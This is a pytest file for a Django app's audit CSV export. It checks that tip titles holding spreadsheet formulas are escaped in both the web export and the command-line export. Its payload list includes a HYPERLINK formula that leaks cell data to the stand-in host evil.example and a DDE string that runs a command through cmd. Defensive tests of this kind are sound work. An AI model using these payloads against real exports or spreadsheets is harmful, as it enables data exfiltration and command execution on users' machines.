"""M3: formula injection through the audit CSV export."""

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "＝1+1", "\t=1+1"]


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("title", PAYLOADS)
def test_m3_tip_title_cannot_become_a_formula_in_the_audit_export(world, login, title):
    c = login(world.editor)
    assert c.post("/monitoring/tips/new/", {"url": "", "text": "有人在骂学校", "title": title}).status_code == 302
    c = login(world.school_admin)
    body = c.get("/audit/export.csv").content.decode("utf-8")
    cells = _cells(body)
    assert any(title.strip() in cell for cell in cells), "the title is still exported"
    for cell in cells:
        assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "＝")), cell


def test_m3_export_from_the_command_line_is_escaped_too(world, tmp_path):
    from django.core.management import call_command

    from yuqing.audit.log import record

    record(actor="system", action="test.note", object_repr="=1+1")
    out = tmp_path / "a.csv"
    call_command("audit", "export", "-o", str(out))
    cells = _cells(out.read_text(encoding="utf-8-sig"))
    assert "'=1+1" in cells and "=1+1" not in cells
